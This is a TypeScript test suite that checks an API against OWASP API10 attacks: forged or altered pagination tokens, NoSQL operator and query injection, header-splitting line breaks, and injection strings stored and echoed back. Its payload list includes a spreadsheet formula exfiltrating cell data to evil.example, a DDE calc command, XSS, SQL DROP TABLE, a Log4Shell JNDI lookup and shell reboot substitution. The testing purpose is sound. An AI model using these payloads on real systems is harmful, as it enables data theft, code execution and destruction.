import { PageTokens } from "../../../../console/api/http/pageTokens";
import { NOW, tryAll, World, type Attempt, type Attempts } from "../support/attempts";

/**
 * Named attempts by the OWASP API Security Top 10 of 2023. Whatever is not said to be changed or asked must not be.
 * @see https://owasp.org/API-Security/editions/2023/en/0x11-t10/
 */

const NEW = { name: "new", description: "", patternType: "CFN", attributes: {} };
const CHANGE = { description: "", attributes: {}, version: 1 };
const TIMES = { createTime: "2026-01-01T00:00:00.000Z", lastUpdateTime: "2026-01-01T00:00:00.000Z" };
const DB = { patternId: "DB", name: "db", description: "", patternType: "CFN", attributes: {}, version: 1, ...TIMES };
/** Texts that other programs take for more than texts. */
const TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE patterns; --",
    "attribute_exists(patternId)",
    ":version",
    "#item",
    '{"$gt":""}',
    '{"S":"x"}',
    "${jndi:ldap://evil.example/a}",
    "$(reboot) `reboot` | reboot",
    "a\nSet-Cookie: b=c",
    "%0d%0aSet-Cookie:%20b=c",
    " blanks at both ends ",
    "e\u0301 is not \u00e9",
    "null",
];

const OTHER_SECRET = new PageTokens("another secret that is long enough, too", () => NOW);
const forged = (list: string, token: (world: World) => Promise<string>): Attempt => ({
    send: async (world) => `GET ${list}nextToken=${await token(world)}`,
    status: 400,
    answer: /^nextToken is not one that this list gave: start from the first page\.$/,
});
const own = (world: World): Promise<string> => world.pageToken("/patterns?limit=1");
const PAGE_TOKENS: Attempts = {
    "the token of another list": forged("/attributes?", own),
    "the token of the list without a filter": forged("/patterns?attribute=TIER:WEB&", own),
    "the token of another filter": forged("/attributes?key=other&", (world) =>
        world.pageToken("/attributes?key=tier&maxRow=1"),
    ),
    "the token of somebody else": forged("/patterns?", (world) => world.pageToken("/patterns?limit=1", "admin")),
    "a token that is cut": forged("/patterns?", async (world) => (await own(world)).slice(0, -2)),
    "a token with something behind it": forged("/patterns?", async (world) => `${await own(world)}AAAA`),
    "a token with a changed bit": forged("/patterns?", async (world) => {
        const bytes = Buffer.from(await own(world), "base64url");
        bytes.writeUInt8(bytes.readUInt8(bytes.length - 1) ^ 1, bytes.length - 1);
        return bytes.toString("base64url");
    }),
    "a token by another secret": forged("/patterns?", () =>
        Promise.resolve(OTHER_SECRET.seal({ patternId: "DB", kind: "PATTERN" }, '["patterns",null,"reader"]')),
    ),
    "a position that is not sealed": forged("/patterns?", () =>
        Promise.resolve(Buffer.from('{"patternId":"A","kind":"PATTERN"}').toString("base64url")),
    ),
    "a token of the day before": forged("/patterns?", (world) => world.pageToken("/patterns?limit=1", "reader", 24)),
    "a token of 23 hours ago, which is good": {
        send: async (world) => `GET /patterns?nextToken=${await world.pageToken("/patterns?limit=1", "reader", 23)}`,
        status: 200,
    },
    "no token": { send: "GET /patterns?nextToken=", status: 400, answer: /nextToken: / },
    "two tokens": { send: async (world) => `GET /patterns?nextToken=${await own(world)}&nextToken=A`, status: 400 },
    "a position in the store's words": { send: "GET /patterns?nextToken=%7B%22patternId%22:%22A%22%7D", status: 400 },
};

const operators: Attempts = Object.fromEntries(
    [{ $gt: "" }, { $ne: null }, { S: 1 }, { $where: "1" }, ["new"], true, null].flatMap((value) =>
        ["name", "description", "patternType", "attributes"].map((name): [string, Attempt] => [
            `${JSON.stringify(value)} for a pattern's ${name}`,
            {
                as: "publisher",
                send: "POST /patterns",
                body: { ...NEW, [name]: value },
                status: 400,
                answer: new RegExp(`^Not valid: ${name}`),
            },
        ]),
    ),
);
const INJECTION: Attempts = {
    ...operators,
    ...Object.fromEntries(
        ["%7B%22$gt%22:%22%22%7D", "%23item", ":key", "TIER:WEB", "*", "%25", "tier'--", "tier%0A"].map((key) => [
            `attributes by the key ${key}`,
            { send: `GET /attributes?key=${key}`, status: 400, answer: /key: / },
        ]),
    ),
    "an operator in the query": { send: "GET /attributes?key[$ne]=x", status: 400, answer: /Unrecognized key/ },
    "the prototype in the query": { send: "GET /attributes?__proto__=x", status: 400, answer: /__proto__/ },
    "the id of what lies beside an attribute": { send: "GET /attributes/TIER:WEB%23PATTERN%23WEB", status: 400 },
    "a line break in an id": { send: "GET /patterns/WEB%0d%0aSet-Cookie:%20b=c", status: 400 },
    "a line break in a name": {
        as: "publisher",
        send: "POST /patterns",
        body: { ...NEW, name: "new\r\nSet-Cookie: b=c" },
        status: 400,
    },
    ...Object.fromEntries(
        TEXTS.map((text) => [
            `a description that is given back as it is: ${JSON.stringify(text)}`,
            {
                as: "publisher",
                send: "PUT /patterns/DB",
                body: { ...CHANGE, description: text },
                status: 200,
                answer: {
                    patternObject: { ...DB, description: text, version: 2, lastUpdateTime: "2026-05-05T12:00:00.000Z" },
                },
                asked: ["pattern DB is at version 2"],
                changed: ["patterns DB"],
            },
        ]),
    ),
    "metadata that are given back as they are": {
        as: "admin",
        send: "PUT /attributes/TIER:DATA",
        body: { description: "", metadata: ' {"__proto__":{"$gt":1.0},"S":"=1+1","a":1,"a":2} ', version: 1 },
        status: 200,
        answer: {
            id: "TIER:DATA",
            name: "TIER:DATA",
            key: "TIER",
            value: "DATA",
            description: "",
            metadata: ' {"__proto__":{"$gt":1.0},"S":"=1+1","a":1,"a":2} ',
            version: 2,
            createTime: TIMES.createTime,
            lastUpdateTime: "2026-05-05T12:00:00.000Z",
        },
        asked: ["attribute TIER:DATA is at version 2"],
        changed: ["attributes TIER:DATA ATTRIBUTE"],
    },
};

describe("OWASP API Security Top 10: what is taken for more than text", () => {
    let world: World;
    before(async () => (world = await World.start()));
    after(() => world.stop());

    tryAll(
        {
            "API10, unsafe consumption of what is sent: page tokens": PAGE_TOKENS,
            "API10, unsafe consumption of what is sent: operators, formulas, markup and headers": INJECTION,
        },
        () => world,
    );
});
